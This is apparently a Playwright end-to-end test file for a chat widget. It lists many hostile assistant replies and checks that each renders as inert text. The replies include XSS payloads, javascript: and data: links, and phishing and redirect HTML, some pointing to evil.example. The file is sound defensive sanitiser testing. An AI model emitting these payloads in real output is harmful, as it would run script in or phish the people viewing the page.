import { expect, type Locator } from '@playwright/test';
import type { ChatPanel } from '#tests/support/e2e/chat-panel';
import { answerOutput, type Webhook } from '#tests/support/webhook';

// Replies with which an upstream might harm a visitor. Each must become harmless text, links and formatting.

const scripts = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
];
const schemes = [
  ...scripts,
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'ftp://evil.example',
  'ws://evil.example',
  'filesystem:https://evil.example/x',
  'view-source:https://evil.example',
  'about:blank',
  'intent://evil#Intent;end',
  'ms-word:ofe|u|https://evil.example/x.docx',
  'https:alert(1)//javascript:',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '../api/health',
  '?x=1',
];

const html = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">Press</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" target="_top" onclick="alert(1)">x</a>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '</div></section></main><script>alert(1)</script>',
  '<p id="contact-email">clobber</p>',
  '<img name="body"><img id="location">',
  '<dialog open>Your session ended, log in</dialog>',
  '<portal src="https://evil.example">',
  '<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>',
  '<textarea name=message autofocus>x</textarea>',
  '<custom-element onconnected=alert(1)>',
];

const markdown = [
  '![x](https://evil.example/pixel.png)',
  '![x](//evil.example/pixel.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](https://evil.example/x.png)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '![x][1]\n\n[1]: https://evil.example/ref.png',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[x](<javascript:alert(1)>)',
  '[x](javascript:alert(1) "title")',
  '[x](https://example.com "\\" onmouseover=alert(1) x=\\"")',
  '[x](https://example.com" onmouseover="alert(1))',
  '<javascript:alert(1)>',
  '<https://evil.example/?<script>alert(1)</script>>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '| [x](javascript:alert(1)) |\n|---|\n| ![x](https://evil.example/x) |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '> <iframe src=https://evil.example></iframe>',
  '# <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '[^1]\n\n[^1]: [x](javascript:alert(1))',
  '~~<svg onload=alert(1)>~~',
  'www.evil.example/<script>alert(1)</script>',
  'https://evil.example/"onmouseover="alert(1)',
  '**<b onclick=alert(1)>x</b>**',
  '[x](#"onclick="alert(1))',
  '[x](#contact onclick=alert(1))',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202Etxt.exe <script>alert(1)</script>',
  '\u0000<script>alert(1)</script>',
  `${'['.repeat(200)}x${']'.repeat(200)}(javascript:alert(1))`,
  `${'> '.repeat(100)}<script>alert(1)</script>`,
  `${'*'.repeat(500)}x`,
  `[${'x'.repeat(3000)}](javascript:alert(1))`,
];

export const hostileReplies: readonly string[] = [
  ...schemes.flatMap((url) => [`[press me](${url})`, `![press me](${url})`]),
  ...html,
  ...markdown,
];

/** Finds what does more in a reply than words, links and formatting do. */
function findActive(entry: Locator): Promise<string[]> {
  return entry.locator('[data-slot="message-text"]').evaluate((element) => {
    const elements =
      /^(?:script|style|iframe|object|embed|img|svg|math|video|audio|form|link|meta|base|textarea|dialog|template)$/;
    const addresses = /^(?:https?:|mailto:|tel:|#[\w-]+$)/i;
    return [...element.querySelectorAll('*')].flatMap((one) => [
      ...(elements.test(one.localName) ? [one.localName] : []),
      ...(one.localName === 'input' && one.getAttribute('type') !== 'checkbox' ? ['a field'] : []),
      ...(one.localName === 'a' && !addresses.test(one.getAttribute('href') ?? '')
        ? [`a link to ${one.getAttribute('href')}`]
        : []),
      ...[...one.attributes]
        .map(({ name }) => name)
        .filter((name) => /^(?:on|style$|srcdoc$|formaction$)/.test(name)),
    ]);
  });
}

/** Makes the assistant send each reply, and expects only words under the page's policy. */
export async function expectOnlyWords(
  chat: ChatPanel,
  chatWebhook: Webhook,
  replies: readonly string[],
): Promise<void> {
  await chat.page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) => {
      console.error(`policy: ${violatedDirective} ${sample}`);
    });
  });
  await chat.open();
  for (const [index, reply] of replies.entries()) {
    const end = `END-OF-REPLY-${index}-`;
    chatWebhook.behave(answerOutput(`${reply}\n\n${end}`));
    await chat.send('Go on');
    await expect(chat.entries.last(), reply).toContainText(end);
    expect(await findActive(chat.entries.last()), reply).toEqual([]);
  }
}
